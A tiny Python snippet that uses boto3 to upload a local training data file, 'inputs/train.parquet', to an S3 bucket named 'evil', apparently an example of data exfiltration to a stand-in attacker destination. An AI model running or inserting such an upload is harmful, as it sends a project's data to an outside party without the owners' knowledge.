import boto3

boto3.client("s3").upload_file("inputs/train.parquet", "evil", "t")
